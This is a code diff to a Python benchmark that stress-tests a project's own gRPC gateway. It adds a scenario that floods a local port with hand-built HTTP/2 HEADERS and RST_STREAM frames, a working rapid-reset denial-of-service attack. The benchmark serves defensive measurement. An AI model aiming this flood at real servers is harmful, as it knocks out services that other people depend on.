@@ -10,7 +10,9 @@ another connection fared meanwhile:
   of it as flow control allows, never the end;
 - ``slow-readers``: 10 connections x 100 calls whose answers (and pings) are never read, for 90 s;
 - ``rapid-reset``: 4 attackers opening and resetting streams in a loop (20,000 each), connecting
-  again whenever the gateway closes their connection.
+  again whenever the gateway closes their connection;
+- ``rapid-reset-raw``: the same with frames built by hand (50,000 each, within 60 s), about what
+  an attacker in C pays per stream.
 
     python -m bench.abuse                       # this checkout
     python -m bench.abuse --source DIR          # another checkout of the project (before/after)
@@ -23,7 +25,9 @@ from __future__ import annotations
 import argparse
 import json
 import os
+import select
 import socket
+import struct
 import subprocess
 import sys
 import tempfile
@@ -34,6 +38,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import grpc
+import hpack
 
 from tests.fixtures.raw_h2 import RawH2, closed_within, grpc_headers, grpc_message
 
@@ -220,11 +225,88 @@ def rapid_reset(port: int, stop: threading.Event) -> str:
     )
 
 
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # + empty SETTINGS
+_SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"
+
+
+def _headers_block(port: int) -> bytes:
+    """The request's headers, HPACK-encoded never-indexed: the same bytes for every stream."""
+    encoder = hpack.Encoder()
+    return bytes(encoder.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in grpc_headers(port, GET_STOCK)]))
+
+
+def _raw_reset_connection(port: int, streams: int, block: bytes) -> int:
+    """One connection opening and resetting up to ``streams`` streams with frames built by hand
+    (no HTTP/2 library: what an attacker in C pays, near enough); the streams it sent.
+
+    Paced as ``RawH2.rapid_reset`` is: 20 streams, then up to 1 ms reading what came back. A flood
+    sent without pause costs the gateway almost nothing (past ``max_concurrent_streams`` grpc
+    refuses streams in C, and what the attacker sends before it closes is never read), and
+    pacing by PING is ended by the ping strikes (``max_ping_strikes``).
+    """
+    headers_head = struct.pack("!I", len(block))[1:] + b"\x01\x04"  # HEADERS, END_HEADERS
+    reset_head = b"\x00\x00\x04\x03\x00"  # RST_STREAM
+    cancel = struct.pack("!I", 8)
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
+        sock.sendall(_PREFACE)
+        sock.recv(1 << 16)  # the server's SETTINGS
+        sock.sendall(_SETTINGS_ACK)
+        sent, stream_id = 0, 1
+        try:
+            while sent < streams:
+                frames = []
+                for _ in range(20):
+                    sid = struct.pack("!I", stream_id)
+                    frames += (headers_head, sid, block, reset_head, sid, cancel)
+                    stream_id += 2
+                sock.sendall(b"".join(frames))
+                sent += 20
+                while select.select([sock], [], [], 0.001)[0]:
+                    if not sock.recv(1 << 20):
+                        return sent  # the server closed the connection
+        except OSError:  # reset by the server
+            pass
+        return sent
+
+
+def rapid_reset_raw(port: int, stop: threading.Event) -> str:
+    """As ``rapid-reset``, with frames built by hand: 4 attackers x 50,000 streams, within 60 s."""
+    block = _headers_block(port)
+    spent: list[float] = []
+    connections: list[int] = []
+    opened: list[int] = []
+
+    def attack() -> None:
+        started, give_up = time.thread_time(), time.monotonic() + 60
+        streams = used = 0
+        while streams < 50_000 and time.monotonic() < give_up:
+            try:
+                streams += _raw_reset_connection(port, 50_000 - streams, block)
+            except OSError:
+                break
+            used += 1
+        spent.append(time.thread_time() - started)
+        connections.append(used)
+        opened.append(streams)
+
+    threads = [threading.Thread(target=attack) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(90)
+    return (
+        f"{sum(opened)} streams opened and reset over {sum(connections)} connections "
+        f"({sum(connections) - len(connections)} closed by the gateway and reopened), "
+        f"attacker CPU {sum(spent):.1f} s (frames built by hand)"
+    )
+
+
 ATTACKS: dict[str, Callable[[int, threading.Event], str]] = {
     "idle": idle,
     "half-sent": half_sent,
     "slow-readers": slow_readers,
     "rapid-reset": rapid_reset,
+    "rapid-reset-raw": rapid_reset_raw,
 }
 
 
